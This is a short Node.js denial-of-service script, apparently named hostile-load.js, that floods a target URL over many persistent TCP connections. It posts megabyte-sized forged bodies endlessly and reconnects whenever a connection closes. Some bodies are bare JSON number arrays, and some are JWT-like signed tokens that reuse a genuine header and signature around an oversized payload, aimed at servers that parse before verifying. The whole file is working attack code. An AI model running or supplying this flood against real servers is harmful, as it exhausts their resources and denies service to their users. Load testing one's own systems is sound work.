// node hostile-load.js '{"url", "connections", "kind", "genuine"}': posts large forged bodies without end, until it is killed.
import net from 'node:net';

const MIB = 1_048_576;
const order = JSON.parse(process.argv[2]);
const { hostname, port } = new URL(order.url);
const body = bodyOf(order.kind, order.genuine);
const head = `POST / HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n`;
const request = Buffer.concat([Buffer.from(head), body]);
for (let count = 0; count < order.connections; count++) connect();
// Without a connection there is nothing to keep the process until it is killed.
setInterval(() => {}, 60_000);

/** Each connection posts again as soon as it is answered, and connects again when it is closed. */
function connect() {
  const socket = net.connect(Number(port), hostname, () => socket.write(request));
  socket.on('data', () => socket.write(request));
  socket.on('error', () => socket.destroy());
  socket.on('close', () => setTimeout(connect, 10));
}

/** `numbers`: JSON without a token. `payload`: a genuine header and signature around a payload of numbers. `header`: numbers in the header. */
function bodyOf(kind, genuine) {
  if (kind === 'numbers') return Buffer.from(`{"a":${numbers(MIB - 100)}}`);
  const [header, , signature] = genuine.split('.');
  const encoded = Buffer.from(`{"a":${numbers(0.7 * MIB)}}`).toString('base64url');
  const token = kind === 'payload' ? `${header}.${encoded}.${signature}` : `${encoded}.e30.${signature}`;
  return Buffer.from(JSON.stringify({ signedPayload: token }));
}

function numbers(bytes) {
  const one = '12345678901234567890,';
  return `[${one.repeat(Math.floor(bytes / one.length))}1]`;
}
